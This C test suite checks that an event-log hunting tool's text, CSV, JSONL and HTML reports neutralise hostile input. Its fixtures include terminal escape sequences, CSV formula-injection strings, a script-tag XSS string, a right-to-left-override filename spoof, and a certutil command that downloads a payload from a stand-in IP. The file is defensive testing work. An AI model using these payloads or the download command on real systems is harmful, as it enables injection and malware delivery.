/*
 * check_report.c -- tests for src/report/: the escaping table (hostile
 * strings in every output form), golden output of every format
 * (byte for byte; EVH_UPDATE_GOLDEN=1 rewrites tests/golden/), the
 * safety properties of each format on the hostile fixture (no terminal
 * escapes, inert CSV formulas, an HTML page without external references
 * parsed by libxml2's HTML parser), coverage verdicts, wrapping without
 * loss, and the API's error paths.
 */
#include <check.h>
#include <errno.h>
#include <libxml/HTMLparser.h>
#include <libxml/tree.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "ev_json.h"
#include "report/escape.h"
#include "report/report_int.h"
#include "report_fixture.h"

#define NELEM(a)	(sizeof(a) / sizeof((a)[0]))

/* The report of the fixture in fmt, malloc'ed (caller frees). */
static char *
render(const char *fmt, bool all, bool color, size_t *lenp)
{
	struct ev_err err = EV_ERR_INIT;
	struct fx fx;
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);

	ck_assert_ptr_nonnull(f);
	fx_build(&fx, all, fmt, color);
	ck_assert_msg(report_write(f, &fx.rep, &err) == 0, "%s: %s", fmt,
	    err.msg);
	fclose(f);
	fx_release(&fx);
	if (lenp != NULL)
		*lenp = len;
	return buf;
}

/* ---- escaping ---- */

static const struct {
	const char	*name, *in;
	const char	*json, *csv, *text, *html;
} esc[] = {
	{ "plain", "cmd.exe /c dir", "\"cmd.exe /c dir\"", "cmd.exe /c dir",
	    "cmd.exe /c dir", "cmd.exe /c dir" },
	{ "ansi clear", "a\x1b[2Jb", "\"a\\u001b[2Jb\"", "a\xef\xbf\xbd[2Jb",
	    "a\\e[2Jb", "a&#xfffd;[2Jb" },
	{ "osc title", "\x1b]0;pwn\x07", "\"\\u001b]0;pwn\\u0007\"",
	    "\xef\xbf\xbd]0;pwn\xef\xbf\xbd", "\\e]0;pwn\\x07",
	    "&#xfffd;]0;pwn&#xfffd;" },
	{ "c1 csi", "a\xc2\x9b" "31mb", "\"a\\u009b31mb\"",
	    "a\xef\xbf\xbd" "31mb", "a\\u009b31mb", "a&#xfffd;31mb" },
	{ "formula", "=cmd|' /C calc'!A0", "\"=cmd|' /C calc'!A0\"",
	    "\"'=cmd|' /C calc'!A0\"", "=cmd|' /C calc'!A0",
	    "=cmd|&#39; /C calc&#39;!A0" },
	{ "plus", "+1+2", "\"+1+2\"", "\"'+1+2\"", "+1+2", "+1+2" },
	{ "minus", "-2+3", "\"-2+3\"", "\"'-2+3\"", "-2+3", "-2+3" },
	{ "at", "@SUM(A1)", "\"@SUM(A1)\"", "\"'@SUM(A1)\"", "@SUM(A1)",
	    "@SUM(A1)" },
	{ "tab", "\t=1", "\"\\t=1\"", "\"'\t=1\"", "\\x09=1", "\t=1" },
	{ "quote comma", "a \"b\", c", "\"a \\\"b\\\", c\"",
	    "\"a \"\"b\"\", c\"", "a \"b\", c", "a &quot;b&quot;, c" },
	{ "newline", "a\r\nb", "\"a\\r\\nb\"", "\"a\r\nb\"", "a\\x0d\\x0ab",
	    "a&#xfffd;\nb" },
	{ "script", "</script><script>alert(1)</script>",
	    "\"</script><script>alert(1)</script>\"",
	    "</script><script>alert(1)</script>",
	    "</script><script>alert(1)</script>",
	    "&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;" },
	{ "invalid utf8", "a\xff\xc3(b\xed\xa0\x80", "\"a\xef\xbf\xbd\xef\xbf"
	    "\xbd(b\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\"", "a\xef\xbf\xbd\xef"
	    "\xbf\xbd(b\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd", "a\xef\xbf\xbd\xef"
	    "\xbf\xbd(b\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd", "a\xef\xbf\xbd\xef"
	    "\xbf\xbd(b\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd" },
	{ "bidi rlo", "evil\xe2\x80\xaegpj.exe", "\"evil\\u202egpj.exe\"",
	    "evil\xef\xbf\xbdgpj.exe", "evil\\u202egpj.exe",
	    "evil\xe2\x80\xaegpj.exe" },
	{ "line separator", "a\xe2\x80\xa8z", "\"a\\u2028z\"",
	    "a\xe2\x80\xa8z", "a\xe2\x80\xa8z", "a\xe2\x80\xa8z" },
	{ "unicode", "C:\\Users\\J\xc3\xbcrgen\\\xe6\x96\x87.exe",
	    "\"C:\\\\Users\\\\J\xc3\xbcrgen\\\\\xe6\x96\x87.exe\"",
	    "C:\\Users\\J\xc3\xbcrgen\\\xe6\x96\x87.exe",
	    "C:\\Users\\J\xc3\xbcrgen\\\xe6\x96\x87.exe",
	    "C:\\Users\\J\xc3\xbcrgen\\\xe6\x96\x87.exe" },
};

START_TEST(escape_table)
{
	struct ev_buf b = EV_BUF_INIT;

	ev_json_str(&b, esc[_i].in);
	ck_assert_msg(strcmp(b.buf, esc[_i].json) == 0, "%s json: %s",
	    esc[_i].name, b.buf);
	ev_buf_reset(&b);
	report_csv_cell(&b, esc[_i].in);
	ck_assert_msg(strcmp(b.buf, esc[_i].csv) == 0, "%s csv: %s",
	    esc[_i].name, b.buf);
	ev_buf_reset(&b);
	report_text_safe(&b, esc[_i].in);
	ck_assert_msg(strcmp(b.buf, esc[_i].text) == 0, "%s text: %s",
	    esc[_i].name, b.buf);
	ev_buf_reset(&b);
	report_html_str(&b, esc[_i].in);
	ck_assert_msg(strcmp(b.buf, esc[_i].html) == 0, "%s html: %s",
	    esc[_i].name, b.buf);
	ev_buf_release(&b);
}
END_TEST

START_TEST(escape_script_json)
{
	struct ev_buf j = EV_BUF_INIT, b = EV_BUF_INIT;

	ev_json_str(&j, "</script><!-- a&b \xe2\x80\xa8");
	/* a raw U+2029 too, as if some JSON were built without escaping */
	ev_buf_adds(&j, "\xe2\x80\xa9");
	report_json_script(&b, j.buf, j.len);
	ck_assert_str_eq(b.buf, "\"\\u003c/script\\u003e\\u003c!-- a\\u0026b "
	    "\\u2028\"\\u2029");
	ck_assert_ptr_null(strchr(b.buf, '<'));
	ev_buf_release(&j);
	ev_buf_release(&b);
}
END_TEST

/* Escaped in place from an offset on, piece by piece: as escaped whole. */
START_TEST(escape_script_tail)
{
	static const char *const piece[] = { "[\"plain\",", "\"a<b\",",
	    "\"\xe2\x80\xa8&\",", "\"</script>\"]" };
	struct ev_buf whole = EV_BUF_INIT, b = EV_BUF_INIT, j = EV_BUF_INIT;

	ev_buf_adds(&b, "<head>");	/* before from: never escaped */
	for (size_t i = 0; i < sizeof(piece) / sizeof(*piece); i++) {
		size_t at = b.len;

		ev_buf_adds(&j, piece[i]);
		ev_buf_adds(&b, piece[i]);
		report_json_script_tail(&b, at);
	}
	report_json_script(&whole, j.buf, j.len);
	ck_assert_str_eq(b.buf + 6, whole.buf);
	ck_assert(strncmp(b.buf, "<head>[\"plain\",\"a\\u003cb", 21) == 0);
	report_json_script_tail(&b, b.len);	/* nothing after: a no-op */
	ck_assert_str_eq(b.buf + 6, whole.buf);
	ev_buf_release(&whole);
	ev_buf_release(&b);
	ev_buf_release(&j);
}
END_TEST

START_TEST(escape_null)
{
	struct ev_buf b = EV_BUF_INIT;

	ev_json_str(&b, NULL);
	ck_assert_str_eq(b.buf, "null");
	ev_buf_reset(&b);
	report_csv_cell(&b, NULL);
	report_text_safe(&b, NULL);
	report_html_str(&b, NULL);
	ck_assert_uint_eq(b.len, 0);
	ev_buf_release(&b);
}
END_TEST

/* ---- golden output ---- */

static const struct {
	const char	*golden, *format;
	bool		 all, color;
} gold[] = {
	{ "report.txt", "text", false, false },
	{ "report-color.txt", "text", false, true },
	{ "report-all.txt", "text", true, false },
	{ "report.csv", "csv", false, false },
	{ "report-all.csv", "csv", true, false },
	{ "report.jsonl", "jsonl", false, false },
	{ "report-all.jsonl", "jsonl", true, false },
	{ "report.timesketch.jsonl", "timesketch", false, false },
	{ "report.html", "html", false, false },
	{ "report.navigator.json", "navigator", false, false },
};

static char *
slurp(const char *path, size_t *len)
{
	FILE *f = fopen(path, "rb");
	char *buf = NULL;
	size_t cap = 0, n = 0;

	if (f == NULL)
		return NULL;
	for (;;) {
		if (n + 4096 + 1 > cap) {
			cap = (n + 4096 + 1) * 2;
			if ((buf = realloc(buf, cap)) == NULL)
				abort();
		}
		size_t r = fread(buf + n, 1, 4096, f);

		n += r;
		if (r < 4096)
			break;
	}
	fclose(f);
	buf[n] = '\0';
	*len = n;
	return buf;
}

START_TEST(golden)
{
	const char *srcdir = getenv("top_srcdir");
	const char *update = getenv("EVH_UPDATE_GOLDEN");
	char path[4096];
	size_t len, glen;
	char *out, *want;

	out = render(gold[_i].format, gold[_i].all, gold[_i].color, &len);
	snprintf(path, sizeof(path), "%s/tests/golden/%s", srcdir ? srcdir :
	    ".", gold[_i].golden);
	if (update != NULL && strcmp(update, "1") == 0) {
		FILE *f = fopen(path, "wb");

		ck_assert_msg(f != NULL, "%s: %s", path, strerror(errno));
		ck_assert_uint_eq(fwrite(out, 1, len, f), len);
		ck_assert_int_eq(fclose(f), 0);
	}
	want = slurp(path, &glen);
	ck_assert_msg(want != NULL, "%s: %s (EVH_UPDATE_GOLDEN=1 writes it)",
	    path, strerror(errno));
	if (glen != len || memcmp(want, out, len) != 0) {
		size_t i = 0;

		while (i < len && i < glen && want[i] == out[i])
			i++;
		ck_abort_msg("%s differs at byte %zu: got \"%.60s\"", path, i,
		    out + i);
	}
	/* deterministic: a second rendering is identical */
	free(want);
	want = render(gold[_i].format, gold[_i].all, gold[_i].color, &glen);
	ck_assert_msg(glen == len && memcmp(want, out, len) == 0,
	    "%s: two renderings differ", gold[_i].golden);
	free(want);
	free(out);
}
END_TEST

/* ---- safety per format ---- */

static size_t
count(const char *hay, const char *needle)
{
	size_t n = 0;

	for (const char *p = hay; (p = strstr(p, needle)) != NULL; p++)
		n++;
	return n;
}

START_TEST(text_safe_and_narrow)
{
	size_t len;
	char *out = render("text", false, false, &len);
	char *line, *save = NULL;

	ck_assert_uint_eq(strlen(out), len);	/* no NUL inside */
	ck_assert_ptr_null(memchr(out, 0x1b, len));
	ck_assert_ptr_null(memchr(out, 0x07, len));
	ck_assert_ptr_null(strstr(out, "\xe2\x80\xae"));	/* RLO */
	ck_assert_ptr_null(strstr(out, "\xe2\x80\x8f"));	/* RLM */
	ck_assert_ptr_null(strstr(out, "\xc2\x9b"));		/* CSI */
	ck_assert_ptr_nonnull(strstr(out, "\\e[2J\\e]0;owned\\x07\\u202e"));
	for (line = strtok_r(out, "\n", &save); line != NULL;
	    line = strtok_r(NULL, "\n", &save)) {
		size_t cols = 0;

		for (const char *p = line; *p != '\0'; p++)
			if (((unsigned char)*p & 0xc0) != 0x80)
				cols++;
		ck_assert_msg(cols <= 100, "line of %zu columns: %s", cols,
		    line);
		ck_assert_ptr_null(strchr(line, '\r'));
	}
	free(out);
}
END_TEST

START_TEST(text_color_only_sgr)
{
	size_t len;
	char *out = render("text", false, true, &len);
	size_t n = 0;

	for (const char *p = out; (p = strchr(p, 0x1b)) != NULL; p++) {
		const char *q = p + 1;

		ck_assert_msg(*q == '[', "ESC not followed by [");
		for (q++; (*q >= '0' && *q <= '9') || *q == ';'; q++)
			;
		ck_assert_msg(*q == 'm', "not an SGR sequence: %.8s", p + 1);
		n++;
	}
	ck_assert_uint_gt(n, 10);
	free(out);
	out = render("text", false, false, &len);
	ck_assert_ptr_null(memchr(out, 0x1b, len));
	free(out);
}
END_TEST

/* The certutil command line (long) must come back whole from the wrap. */
START_TEST(text_wrap_lossless)
{
	const char *want = "certutil.exe -urlcache -split -f http://203.0.113.9"
	    "/a/very/long/path/that/goes/on/and/on/to/make/this/command/line/"
	    "wrap/over/several/lines/of/the/text/report/payload.bin "
	    "C:\\ProgramData\\payload.bin";
	struct ev_buf got = EV_BUF_INIT;
	char *out = render("text", false, false, NULL);
	const char *p = strstr(out, "    command   certutil.exe");

	ck_assert_ptr_nonnull(p);
	p += 14;
	for (;;) {
		size_t n = strcspn(p, "\n");

		ev_buf_add(&got, p, n);
		p += n + 1;
		if (strncmp(p, "              ", 14) != 0 || p[14] == ' ')
			break;
		p += 14;
	}
	ck_assert_str_eq(got.buf, want);
	ck_assert_uint_gt(count(out, "\n              "), 2);
	ev_buf_release(&got);
	free(out);
}
END_TEST

START_TEST(csv_inert)
{
	size_t len;
	char *out = render("csv", false, false, &len);

	ck_assert_ptr_null(memchr(out, 0x1b, len));
	ck_assert_ptr_null(strstr(out, "\xe2\x80\xae"));
	ck_assert_ptr_nonnull(strstr(out, ",\"'=cmd|' /C calc'!A0\","));
	ck_assert_ptr_nonnull(strstr(out, ",\"'@SUM(1+1)\","));
	ck_assert_uint_eq(strncmp(out, "time,computer,source,level,title,"
	    "rule_id,tags,event_id,image,command_line,parent_image,"
	    "parent_command_line,user,process_guid,pid,record_id,file,", 116),
	    0);
	/*
	 * header + 5 entries (6 findings, the two certutil downloads
	 * grouped), CRLF each (no CR/LF inside these cells)
	 */
	ck_assert_uint_eq(count(out, "\r\n"), 6);
	ck_assert_ptr_nonnull(strstr(out, ",4,2,2020-01-01T00:00:26.0000002Z,"
	    "2020-01-01T00:00:27.0000004Z,\"evidence/Security.evtx #7002, "
	    "#7004\",keywords: 'urlcache' in CommandLine = 'urlcache'\r\n"));
	/* the matched column, last: a selection name is rule text, and a
	   formula to a spreadsheet when it starts with '=' */
	ck_assert_ptr_nonnull(strstr(out, ",\"'=HYPERLINK(\"\"http://x\"\"): "
	    "CommandLine|re '^rundll32[^,]*$' = 'rundll32.exe </script>'; "
	    "not known_dll: CommandLine|contains = '=cmd|' /C calc'!A0'\"\r\n"));
	ck_assert_ptr_nonnull(strstr(out, ",rule+baseline,high,Regsvr32 remote "
	    "scriptlet (Squiblydoo) | regsvr32.exe: new argument shape,"
	    "9b0e7c1a-3f52-4c1e-8a57-3d3f0b7e2a10 | baseline:args,"
	    "attack.defense-evasion attack.t1218.010,1,"));
	free(out);
	out = render("csv", true, false, &len);
	ck_assert_uint_eq(count(out, "\r\n"), 17);	/* header + 16 events */
	free(out);
}
END_TEST

/*
 * An IPv6 connection: every writer puts the address in brackets before
 * the port (rp_endpoint()), in the context and in the event's own line.
 */
static const struct {
	const char	*format;
	bool		 all;
	const char	*want;
} v6[] = {
	{ "text", false, "tcp [2001:db8::7]:80 (evil.example)" },
	{ "text", true, "net regsvr32.exe -> [2001:db8::7]:80" },
	{ "csv", false, "tcp [2001:db8::7]:80 (evil.example)" },
};

START_TEST(ipv6_endpoints)
{
	struct ev_err err = EV_ERR_INIT;
	struct fx fx;
	char *buf = NULL;
	size_t len = 0, nnet = 0;
	FILE *f = open_memstream(&buf, &len);

	ck_assert_ptr_nonnull(f);
	fx_build(&fx, v6[_i].all, v6[_i].format, false);
	for (size_t i = 0; i < fx.nev; i++)
		if (fx.ev[i]->kind == EV_KIND_NETWORK) {
			ck_assert_int_eq(ev_col_set(fx.ev[i], EV_COL_SRC_IP,
			    "2001:db8::5", &fx.arena), 0);
			ck_assert_int_eq(ev_col_set(fx.ev[i], EV_COL_DST_IP,
			    "2001:db8::7", &fx.arena), 0);
			nnet++;
		}
	ck_assert_uint_eq(nnet, 1);
	ck_assert_msg(report_write(f, &fx.rep, &err) == 0, "%s", err.msg);
	fclose(f);
	fx_release(&fx);
	ck_assert_msg(strstr(buf, v6[_i].want) != NULL, "%s: no '%s'",
	    v6[_i].format, v6[_i].want);
	ck_assert_ptr_null(strstr(buf, "2001:db8::7:80"));
	free(buf);
}
END_TEST

/* The network line with its local end, and what is missing. */
START_TEST(net_line)
{
	struct ev_event ev;
	struct ev_buf b = EV_BUF_INIT;
	struct ev_arena a = EV_ARENA_INIT;
	const char *c[EV_NCOL] = { NULL };

	memset(&ev, 0, sizeof(ev));
	c[EV_COL_PROTOCOL] = "tcp";
	c[EV_COL_SRC_IP] = "2001:db8::5";
	c[EV_COL_SRC_PORT] = "49722";
	c[EV_COL_DST_IP] = "192.0.2.1";
	c[EV_COL_DST_PORT] = "443";
	ck_assert_int_eq(ev_cols_pack(&ev, c, &a), 0);
	rp_net_line(&b, &ev, true);
	ck_assert_str_eq(b.buf, "tcp [2001:db8::5]:49722 -> 192.0.2.1:443");
	ev_buf_reset(&b);
	ck_assert_int_eq(ev_col_set(&ev, EV_COL_DST_HOSTNAME, "", &a), 0);
	rp_net_line(&b, &ev, false);
	ck_assert_str_eq(b.buf, "tcp 192.0.2.1:443");
	ev_buf_reset(&b);
	rp_endpoint(&b, NULL, NULL);
	ck_assert_str_eq(b.buf, "?:?");
	ev_buf_release(&b);
	ev_arena_release(&a);
}
END_TEST

START_TEST(jsonl_shape)
{
	char *out = render("jsonl", false, false, NULL);

	ck_assert_uint_eq(count(out, "\n"), 8);	/* header, 6, summary */
	ck_assert_uint_eq(strncmp(out, "{\"type\":\"header\",", 17), 0);
	/* every finding, the grouped ones too, with its group */
	ck_assert_uint_eq(count(out, "{\"type\":\"finding\","), 6);
	ck_assert_uint_eq(count(out, ",\"group\":"), 6);
	ck_assert_uint_eq(count(out, ",\"group\":4,\"group_count\":2,"), 2);
	ck_assert_ptr_nonnull(strstr(out, "\"findings\":6,\"entries\":5,"));
	ck_assert_ptr_nonnull(strstr(out, "\n{\"type\":\"summary\","));
	ck_assert_ptr_null(strchr(out, 0x1b));
	ck_assert_ptr_nonnull(strstr(out, "\"computer\":\"LEGACY03\","
	    "\"verdict\":\"no-command-lines\""));
	ck_assert_ptr_nonnull(strstr(out, "\"computer\":\"SRV02\","
	    "\"verdict\":\"partial\""));
	ck_assert_ptr_nonnull(strstr(out, "\"computer\":\"WS01.corp.example\","
	    "\"verdict\":\"full\""));
	ck_assert_ptr_nonnull(strstr(out, "\"verdict\":\"blind\""));
	ck_assert_ptr_nonnull(strstr(out, "\"log_clears\":[{\"time\":"
	    "\"2020-01-01T00:01:00.0000003Z\",\"computer\":\"SRV02\","
	    "\"event_id\":1102,\"channel\":\"Security\",\"user\":"
	    "\"CORP\\\\mallory\""));
	ck_assert_ptr_nonnull(strstr(out, "\"after_id\":6990,\"before_id\":"
	    "7001,\"missing\":10"));
	ck_assert_ptr_nonnull(strstr(out, "\"by_technique\":[{\"technique\":"
	    "\"T1105\",\"count\":2}"));
	ck_assert_ptr_nonnull(strstr(out, "\"techniques\":[\"T1218.005\"]"));
	free(out);
}
END_TEST

/* Every attribute of every element: no reference out of the page. */
static void
walk(xmlNode *n, int *scripts, bool *json_first)
{
	static const char *const banned_el[] = { "link", "img", "iframe",
	    "object", "embed", "frame", "base", "audio", "video", "source",
	    "form", "image", "use" };
	static const char *const banned_attr[] = { "src", "href", "action",
	    "formaction", "background", "poster", "data", "srcset",
	    "xlink:href", "ping", "manifest" };

	for (; n != NULL; n = n->next) {
		if (n->type != XML_ELEMENT_NODE)
			continue;
		for (size_t i = 0; i < NELEM(banned_el); i++)
			ck_assert_msg(strcasecmp((const char *)n->name,
			    banned_el[i]) != 0, "element <%s>", n->name);
		for (xmlAttr *a = n->properties; a != NULL; a = a->next) {
			xmlChar *v = xmlNodeGetContent((xmlNode *)a);

			/* links within the page (the section bar) only */
			for (size_t i = 0; i < NELEM(banned_attr); i++)
				ck_assert_msg(strcasecmp((const char *)a->name,
				    banned_attr[i]) != 0 || (strcasecmp(
				    (const char *)a->name, "href") == 0 &&
				    v != NULL && v[0] == '#'), "attribute %s=%s",
				    a->name, v);
			ck_assert_msg(v == NULL || (strstr((char *)v, "http:") ==
			    NULL && strstr((char *)v, "https:") == NULL),
			    "URL in %s", a->name);
			xmlFree(v);
		}
		if (strcmp((const char *)n->name, "style") == 0) {
			xmlChar *c = xmlNodeGetContent(n);

			ck_assert_ptr_null(strstr((char *)c, "@import"));
			ck_assert_ptr_null(strstr((char *)c, "url("));
			ck_assert_ptr_null(strstr((char *)c, "http"));
			xmlFree(c);
		}
		if (strcmp((const char *)n->name, "script") == 0) {
			xmlChar *t = xmlGetProp(n, (const xmlChar *)"type");
			xmlChar *c = xmlNodeGetContent(n);

			if (*scripts == 0)
				*json_first = t != NULL && strcmp((char *)t,
				    "application/json") == 0;
			else {
				/* the renderer: no network, no markup sink */
				ck_assert_ptr_null(strstr((char *)c, "http"));
				ck_assert_ptr_null(strstr((char *)c,
				    "innerHTML"));
				ck_assert_ptr_null(strstr((char *)c, "fetch("));
				ck_assert_ptr_null(strstr((char *)c,
				    "XMLHttpRequest"));
				ck_assert_ptr_null(strstr((char *)c, "eval("));
			}
			/* the data holds every hostile string, none as markup;
			 * the renderer never writes a closing tag */
			ck_assert_ptr_null(strstr((char *)c, *scripts == 0 ?
			    "<" : "</"));
			(*scripts)++;
			xmlFree(t);
			xmlFree(c);
		}
		walk(n->children, scripts, json_first);
	}
}

START_TEST(html_self_contained)
{
	size_t len;
	char *out = render("html", false, false, &len);
	htmlDocPtr doc;
	int scripts = 0;
	bool json_first = false;

	doc = htmlReadMemory(out, (int)len, "report.html", "UTF-8",
	    HTML_PARSE_NONET | HTML_PARSE_NOERROR | HTML_PARSE_NOWARNING);
	ck_assert_ptr_nonnull(doc);
	walk(xmlDocGetRootElement(doc), &scripts, &json_first);
	ck_assert_int_eq(scripts, 2);
	ck_assert(json_first);
	xmlFreeDoc(doc);
	/* the closing tags are the page's own, no more */
	ck_assert_uint_eq(count(out, "</script"), 2);
	ck_assert_uint_eq(count(out, "<script"), 2);
	ck_assert_ptr_null(memchr(out, 0x1b, len));
	ck_assert_ptr_nonnull(strstr(out, "\\u003c/script\\u003e\\u003c"
	    "script\\u003ealert(1)"));
	ck_assert_ptr_nonnull(strstr(out, "<svg viewBox="));
	ck_assert_ptr_nonnull(strstr(out, "Content-Security-Policy"));
	/* findings right after the verdict, every long table folded, no
	 * sideways scroll (tests/screenshot.sh measures the page) */
	ck_assert_ptr_nonnull(strstr(out, "<nav>"));
	ck_assert_ptr_nonnull(strstr(out, "<section id=\"verdict\"></section>"
	    "\n<section id=\"sec-findings\">"));
	ck_assert_ptr_nonnull(strstr(out, "table-layout:fixed"));
	ck_assert_ptr_nonnull(strstr(out, "overflow-wrap:anywhere"));
	ck_assert_ptr_nonnull(strstr(out, "add(p,'details')"));
	ck_assert_ptr_null(strstr(out, "innerHTML"));
	free(out);
}
END_TEST

/* ---- API ---- */

START_TEST(api_errors)
{
	struct ev_err err = EV_ERR_INIT;
	struct fx fx;
	FILE *full;

	fx_build(&fx, false, "pdf", false);
	ck_assert_int_eq(report_write(stdout, &fx.rep, &err), EV_EUSAGE);
	ck_assert_ptr_nonnull(strstr(err.msg, "pdf"));
	full = fopen("/dev/full", "w");
	if (full != NULL) {
		for (size_t i = 0; report_formats[i] != NULL; i++) {
			ev_err_clear(&err);
			fx.rep.opts.format = report_formats[i];
			ck_assert_msg(report_write(full, &fx.rep, &err) ==
			    EV_EIO, "%s on /dev/full", report_formats[i]);
			clearerr(full);
		}
		fclose(full);
	}
	fx_release(&fx);
	ck_assert_str_eq(ev_level_name(EV_LEVEL_CRITICAL), "critical");
	ck_assert_str_eq(ev_level_name(EV_LEVEL_INFORMATIONAL),
	    "informational");
	ck_assert_str_eq(ev_level_name(0), "");
	ck_assert_str_eq(ev_level_name(9), "");
}
END_TEST

/* An empty scan (nothing read) in every format. */
START_TEST(api_empty)
{
	struct ingest_run run;
	struct report rep;
	struct ev_err err = EV_ERR_INIT;

	memset(&run, 0, sizeof(run));
	memset(&rep, 0, sizeof(rep));
	rep.run = &run;
	rep.version = "evtxhunt 0.1.0";
	for (size_t i = 0; report_formats[i] != NULL; i++) {
		char *buf = NULL;
		size_t len = 0;
		FILE *f = open_memstream(&buf, &len);

		rep.opts.format = report_formats[i];
		ck_assert_int_eq(report_write(f, &rep, &err), 0);
		fclose(f);
		if (strcmp(report_formats[i], "text") == 0) {
			ck_assert_ptr_nonnull(strstr(buf, "no findings"));
			ck_assert_ptr_nonnull(strstr(buf, "no events"));
		}
		if (strcmp(report_formats[i], "timesketch") == 0)
			ck_assert_uint_eq(len, 0);
		if (strcmp(report_formats[i], "navigator") == 0)
			ck_assert_ptr_nonnull(strstr(buf,
			    "\"techniques\":[]"));
		free(buf);
	}
}
END_TEST

START_TEST(api_formats)
{
	size_t n = 0;

	while (report_formats[n] != NULL)
		n++;
	ck_assert_uint_eq(n, 6);
}
END_TEST

static Suite *
report_suite(void)
{
	Suite *s = suite_create("report");
	TCase *tc;

	tc = tcase_create("escape");
	tcase_add_loop_test(tc, escape_table, 0, NELEM(esc));
	tcase_add_test(tc, escape_script_json);
	tcase_add_test(tc, escape_script_tail);
	tcase_add_test(tc, escape_null);
	suite_add_tcase(s, tc);
	tc = tcase_create("golden");
	tcase_add_loop_test(tc, golden, 0, NELEM(gold));
	suite_add_tcase(s, tc);
	tc = tcase_create("hostile");
	tcase_add_test(tc, text_safe_and_narrow);
	tcase_add_test(tc, text_color_only_sgr);
	tcase_add_test(tc, text_wrap_lossless);
	tcase_add_test(tc, csv_inert);
	tcase_add_test(tc, jsonl_shape);
	tcase_add_loop_test(tc, ipv6_endpoints, 0, NELEM(v6));
	tcase_add_test(tc, net_line);
	tcase_add_test(tc, html_self_contained);
	suite_add_tcase(s, tc);
	tc = tcase_create("api");
	tcase_add_test(tc, api_errors);
	tcase_add_test(tc, api_empty);
	tcase_add_test(tc, api_formats);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	SRunner *sr = srunner_create(report_suite());
	int failed;

	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
}
